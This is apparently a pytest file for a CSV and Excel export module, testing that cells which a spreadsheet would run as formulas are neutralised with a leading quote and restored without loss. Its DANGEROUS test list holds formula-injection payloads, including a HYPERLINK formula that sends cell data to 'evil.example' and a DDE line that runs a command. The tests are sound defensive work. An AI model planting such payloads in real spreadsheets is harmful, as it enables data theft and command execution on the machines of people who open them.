"""Tables that are safe to open: nothing in a cell is run, and nothing is lost."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from profiles.exchange.writing import CHUNK, csv_chunks, neutral, restored, workbook

DANGEROUS = [
    "=1+1",
    "+81 24 521 1111",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1＋1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_what_a_spreadsheet_would_run_is_made_a_text(cell: str) -> None:
    assert neutral(cell) == f"'{cell}"
    assert restored(f"'{cell}") == cell


@pytest.mark.parametrize("cell", ["Vitagora", "a=b", "3-4", "", "O’Brien", "'quoted'", "発酵"])
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert neutral(cell) == restored(cell) == cell


@pytest.mark.parametrize("cell", [-5, 0, None])
def test_numbers_are_no_texts(cell: int | None) -> None:
    assert neutral(cell) == cell


@given(st.text())
def test_no_cell_is_lost_and_none_is_run(cell: str) -> None:
    written = neutral(cell)
    assert isinstance(written, str)
    assert restored(written) == cell
    assert not written.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def test_a_csv_file_opens_in_japanese_excel() -> None:
    content = b"".join(csv_chunks(["id", "name_ja"], [["1", "発酵"], ["2", "=1+1"]]))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "id,name_ja\r\n1,発酵\r\n2,'=1+1\r\n"


def test_names_of_columns_are_neutral_too() -> None:
    assert b"".join(csv_chunks(["=x"], [])).decode("utf-8-sig") == "'=x\r\n"


def test_a_csv_file_comes_in_chunks() -> None:
    chunks = list(csv_chunks(["n"], ([str(n)] for n in range(2 * CHUNK + 1))))
    assert len(chunks) == 3
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert rows == [["n"], *([str(n)] for n in range(2 * CHUNK + 1))]


def test_quotes_commas_and_breaks_stay_in_their_cell() -> None:
    cells = ['a "b" c', "one,two;three", "line\nbreak", "tab\tinside"]
    content = b"".join(csv_chunks(["a", "b", "c", "d"], [cells])).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(content, newline="")))[1] == cells


def test_a_workbook_holds_texts_and_no_formulas() -> None:
    with workbook(["id", "name"], [[1, cell] for cell in DANGEROUS]) as file:
        sheet = load_workbook(file).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value[0] for cell in cells] == ["'"] * len(DANGEROUS)
    assert sheet.freeze_panes == "A2"


def test_controls_that_xml_cannot_hold_are_left_out() -> None:
    with workbook(["a"], [["bell\x07 and \x0bmore"]]) as file:
        assert load_workbook(file).active["A2"].value == "bell and more"
